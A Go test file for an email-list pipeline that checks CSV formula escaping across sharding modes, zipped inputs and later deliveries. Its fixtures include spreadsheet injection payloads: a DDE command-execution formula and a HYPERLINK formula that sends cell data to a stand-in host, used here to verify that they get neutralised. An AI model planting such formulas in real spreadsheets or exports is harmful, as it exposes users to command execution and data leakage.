package pipeline

import (
	"context"
	"strings"
	"testing"

	"github.com/emaildata/emaildata/internal/lists/blobstore"
	"github.com/emaildata/emaildata/internal/lists/listfile"
)

// TestFormulaEscaping: the service's columns never carry a formula
// (upperService echoes the email upper-cased, so "=1+1" comes back as a
// service cell "'=1+1"); the input's cells and header stay byte for byte
// unless the list asks for escapeFormulas, in rows and domain mode, for a
// plain and a zipped input; a purchase's delivery keeps what the
// result had.
func TestFormulaEscaping(t *testing.T) {
	input := "email,\"=cmd|' /C calc'!A0\",note\n" +
		"=1+1,\"@SUM(A1)\",plain\n" +
		"a@x.test,\"x,y\",+12025550143\n" +
		"\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1)\",'q,-5\n"
	// The header is written from its names (as it always was), so its
	// quotes go where no delimiter needs them; the data rows are the
	// input's bytes.
	faithful := "email,=cmd|' /C calc'!A0,note,email_upper,row_number,repeat\n" +
		"=1+1,\"@SUM(A1)\",plain,\"'=1+1\",0,false\n" +
		"a@x.test,\"x,y\",+12025550143,A@X.TEST,1,false\n" +
		"\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1)\",'q,-5,\"'=HYPERLINK(\"\"HTTP://EVIL.TEST/?\"\"&A1)\",2,false\n"
	escaped := "email,\"'=cmd|' /C calc'!A0\",note,email_upper,row_number,repeat\n" +
		"\"'=1+1\",\"'@SUM(A1)\",plain,\"'=1+1\",0,false\n" +
		"a@x.test,\"x,y\",\"'+12025550143\",A@X.TEST,1,false\n" +
		"\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1)\",\"''q\",\"'-5\",\"'=HYPERLINK(\"\"HTTP://EVIL.TEST/?\"\"&A1)\",2,false\n"
	for _, mode := range []string{ShardByRows, ShardByDomain} {
		for _, zipped := range []bool{false, true} {
			for _, escape := range []bool{false, true} {
				name := mode
				if zipped {
					name += "/zip"
				}
				if escape {
					name += "/escapeFormulas"
				}
				t.Run(name, func(t *testing.T) {
					s := memStore(t)
					cfg := testConfig()
					cfg.ShardBy, cfg.ShardBytes = mode, 40 // several shards
					file, data := "in.csv", []byte(input)
					if zipped {
						file, data = "in.zip", makeZip(t, zipFile{name: "in.csv", data: input})
					}
					r := processRequest(t, s, hostName, hostService{}, "f", file, data,
						Request{Dialect: comma, EscapeFormulas: escape}, cfg)
					if len(r.plan.Shards) < 2 {
						t.Fatalf("%d shards; the test wants several", len(r.plan.Shards))
					}
					got := string(r.data)
					if zipped {
						got = readZip(t, r.data)["in-7-results.csv"]
					}
					want := faithful
					if escape {
						want = escaped
					}
					if got != want {
						t.Errorf("result\n%s\nwant\n%s", got, want)
					}
					checkDelivery(t, s, r, want)
				})
			}
		}
	}
}

// checkDelivery: a purchase of some service columns keeps the input's
// cells and the kept service cells exactly as the result has them.
func checkDelivery(t *testing.T, s *blobstore.Store, r result, result string) {
	t.Helper()
	out, err := Restrict(context.Background(), s, blobstore.ListKeys{UID: "f"}, r.plan, r.out, Delivery{Fields: []string{"email_upper"}})
	if err != nil {
		t.Fatal(err)
	}
	got := string(get(t, s, out.Key))
	if r.plan.Zip {
		got = readZip(t, get(t, s, out.Key))["in-7-results.csv"]
	}
	var want []byte
	rd := listfile.NewReader(strings.NewReader(result), listfile.Dialect{Delimiter: ',', EmailColumn: 1}, listfile.Limits{})
	for {
		rec, err := rd.Next()
		if err != nil {
			break
		}
		for i := range 4 {
			if i > 0 {
				want = append(want, ',')
			}
			want = append(want, rec.RawField(i)...)
		}
		want = append(want, '\n')
	}
	if got != string(want) {
		t.Errorf("delivered\n%s\nwant\n%s", got, want)
	}
}

// A result merged before escaping existed (service cells as they were)
// is escaped when it is delivered; escaped cells are not escaped twice.
func TestDeliveryEscapesOldResults(t *testing.T) {
	ctx := context.Background()
	s := memStore(t)
	plan := &Plan{Delimiter: ',', OutputHeader: []string{"email", "ev_correction", "ev_valid"}, Columns: []string{"ev_correction", "ev_valid"}}
	put(t, s, "lists/o/result/r.csv", []byte("email,ev_correction,ev_valid\n=2+3@gmial.com,=2+3@gmail.com,false\n@x,\"'=1\",-\n"))
	out, err := Restrict(ctx, s, blobstore.ListKeys{UID: "o"}, plan, &Outcome{Key: "lists/o/result/r.csv", FileName: "r.csv"}, Delivery{Fields: []string{"ev_correction", "ev_valid"}})
	if err != nil {
		t.Fatal(err)
	}
	want := "email,ev_correction,ev_valid\n=2+3@gmial.com,\"'=2+3@gmail.com\",false\n@x,\"'=1\",\"'-\"\n"
	if got := string(get(t, s, out.Key)); got != want {
		t.Errorf("delivered %q, want %q", got, want)
	}
}
